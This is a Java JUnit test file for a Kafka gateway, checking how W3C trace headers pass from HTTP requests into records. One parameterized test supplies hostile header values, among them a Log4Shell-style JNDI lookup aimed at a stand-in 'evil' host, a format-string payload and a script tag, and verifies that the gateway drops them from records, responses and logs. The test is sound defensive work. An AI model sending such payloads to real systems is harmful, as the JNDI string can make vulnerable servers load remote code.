package io.holdfast.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.holdfast.intake.Offer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.kafka.common.header.Header;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** The trace of a request goes on in its record, traced here or not. */
class TraceHeadersTest {

    private static final String PARENT = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    private static final String OTHER = "00-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-bbbbbbbbbbbbbbbb-00";

    private static GatewayFixture http;

    @BeforeAll
    static void start() {
        http = new GatewayFixture("flows: { f: { cluster: west } }\n");
    }

    @AfterAll
    static void stop() {
        http.close();
    }

    @BeforeEach
    void forget() {
        http.intake.offers.clear();
    }

    @Test
    void theTraceOfARequestStandsInItsRecord() throws Exception {
        http.post("/v1/flows/f/records", "{}", "Traceparent", PARENT, "tracestate", "a=1");

        assertThat(text(offer(), "traceparent")).containsExactly(PARENT);
        assertThat(text(offer(), "tracestate")).containsExactly("a=1");
    }

    @Test
    void itStandsInEachRecordOfABatchAndOfATopicsRequest() throws Exception {
        http.post("/v1/flows/f/batch", "{}\n{}\n", "content-type", "application/x-ndjson", "traceparent", PARENT);
        http.post(
                "/topics/f",
                "{\"records\":[{\"value\":1}]}",
                "content-type",
                "application/vnd.kafka.json.v2+json",
                "traceparent",
                PARENT);

        assertThat(http.intake.offers)
                .hasSize(3)
                .allSatisfy(offer -> assertThat(text(offer, "traceparent")).containsExactly(PARENT));
    }

    @Test
    void aRecordsOwnTraceGoesBeforeTheRequests() throws Exception {
        http.post("/v1/flows/f/records", "{}", "traceparent", PARENT, "Holdfast-Header-traceparent", OTHER);

        assertThat(text(offer(), "traceparent")).containsExactly(OTHER);
    }

    @Test
    void ofTwoTracesNoneIsGuessed() throws Exception {
        http.send(http.request("/v1/flows/f/records")
                .header("traceparent", PARENT)
                .header("traceparent", OTHER)
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString("{}")));

        assertThat(text(offer(), "traceparent")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "00-00000000000000000000000000000000-0000000000000000-00",
                "${jndi:ldap://evil/x}",
                "00-zzz",
                "%s%n%00",
                "<script>hostile</script>"
            })
    void whatIsHostileIsDroppedAndStandsInNoAnswerAndNoLog(String hostile) throws Exception {
        Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        ListAppender<ILoggingEvent> log = new ListAppender<>();
        log.start();
        root.addAppender(log);
        try {
            var answer = http.post("/v1/flows/f/records", "{}", "traceparent", hostile, "tracestate", hostile);

            assertThat(answer.statusCode()).isEqualTo(200);
            assertThat(answer.body()).doesNotContain(hostile);
            assertThat(text(offer(), "traceparent")).isEmpty();
            assertThat(text(offer(), "tracestate")).isEmpty();
            assertThat(log.list)
                    .noneMatch(event -> event.getFormattedMessage().contains(hostile)
                            || String.valueOf(event.getKeyValuePairs()).contains(hostile));
        } finally {
            root.detachAppender(log);
        }
    }

    @Test
    void aHeadWithATraceOfAMegabyteIsRefusedAsAnyOther() throws Exception {
        try (var raw = http.raw()) {
            raw.head("POST /v1/flows/f/records HTTP/1.1", "traceparent: " + "0".repeat(20_000), "Content-Length: 0");
            assertThat(raw.readUntil("head-too-large")).contains("431");
        }
    }

    private static Offer offer() {
        return http.intake.offers.element();
    }

    private static List<String> text(Offer offer, String name) {
        return offer.headers().stream()
                .filter(header -> header.key().equals(name))
                .map(Header::value)
                .map(value -> new String(value, StandardCharsets.UTF_8))
                .toList();
    }
}
